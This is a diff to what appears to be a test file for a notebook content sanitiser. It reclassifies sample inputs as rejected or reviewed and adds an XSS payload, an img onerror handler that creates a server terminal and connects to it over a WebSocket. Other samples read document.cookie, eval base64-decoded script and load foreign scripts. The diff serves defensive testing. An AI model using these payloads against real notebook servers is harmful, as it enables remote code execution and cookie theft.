@@ -22,6 +22,13 @@ def _notebook(kind: str, text: str) -> Callable[[], bytes]:
 
 _HTML, _SCRIPT = "text/html", "application/javascript"
 _REJECTED = (
+    ("terminal", "opens a terminal", _SCRIPT, "fetch('/api/terminals', {method: 'POST'})"),
+    (
+        "terminal-handler",
+        "a picture that fails to load and opens a terminal",
+        _HTML,
+        "<img src=x onerror=\"(async()=>{const t=await (await fetch('/api/terminals',{method:'POST'})).json();new WebSocket('ws://'+location.host+'/terminals/websocket/'+t.name)})()\">",
+    ),
     (
         "kernel",
         "gives the kernel a command",
@@ -34,7 +41,6 @@ _REJECTED = (
 _REVIEWED = (
     ("decoded", "decodes a script", _HTML, "<script>eval(atob('YWxlcnQoMSk='))</script>"),
     ("cookie", "takes cookies", _HTML, "<script>x = document.cookie</script>"),
-    ("terminal", "opens a terminal", _SCRIPT, "fetch('/api/terminals', {method: 'POST'})"),
     ("sends", "talks to somebody else", _SCRIPT, "fetch('https://example.org/x')"),
     ("foreign", "loads a script of somebody else", _HTML, "<script src='https://example.org/x.js'></script>"),
     ("picture", "a picture that fails to load", _HTML, "<img src=x onerror=alert(1)>"),
